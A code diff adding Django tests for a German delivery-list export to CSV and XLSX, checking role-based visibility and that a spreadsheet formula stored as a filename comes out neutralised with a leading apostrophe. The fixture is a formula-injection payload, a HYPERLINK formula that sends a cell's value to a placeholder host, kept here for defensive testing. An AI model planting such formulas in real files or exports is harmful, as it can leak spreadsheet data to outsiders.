@@ -171,3 +171,45 @@ def test_an_oversized_upload_is_refused_with_a_german_message(client, kim, setti
     response = client.post("/lieferungen/neu/seu/", {"file": SimpleUploadedFile("x.csv", b"0123456789ABC")})
     assert "größer als die zulässigen" in response.text
     assert not Import.objects.exists()
+
+
+# --- export of the list -----------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'
+
+
+def _export(client, fmt):
+    import csv
+    import io
+
+    import openpyxl
+
+    response = client.get(f"/lieferungen/export.{fmt}")
+    assert response.status_code == 200
+    if fmt == "csv":
+        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_the_delivery_export_has_the_deliveries_the_page_shows_for_the_own_sources(client, kim, fabian):
+    for source, name in (("kindergeld", FORMULA), ("melderegister", "mr.csv"), ("kindergeld", "kg.csv")):
+        Import.objects.create(source=source, original_filename=name, sha256="0" * 64, accepted_count=3)
+    client.force_login(fabian)
+    page = client.get("/lieferungen/")
+    shown = [d.pk for d in page.context["deliveries"]]
+    assert "/lieferungen/export.xlsx" in page.text
+    rows = _export(client, "csv")
+    assert rows[0] == ["Nr.", "Quelle", "Datei", "geliefert", "Status", "übernommen", "abgelehnt"]
+    assert [int(row[0]) for row in rows[1:]] == shown and len(shown) == 2
+    assert [row[2] for row in rows[1:]] == ["kg.csv", "'" + FORMULA]
+    xlsx = _export(client, "xlsx")
+    assert [row[0] for row in xlsx[1:]] == shown and xlsx[2][2] == "'" + FORMULA
+    client.force_login(kim)
+    assert len(_export(client, "csv")) == 4
+    assert client.get("/lieferungen/export.html").status_code == 404
+
+
+def test_a_role_without_deliveries_gets_no_delivery_export(client, dana):
+    client.force_login(dana)
+    assert client.get("/lieferungen/export.csv").status_code == 404
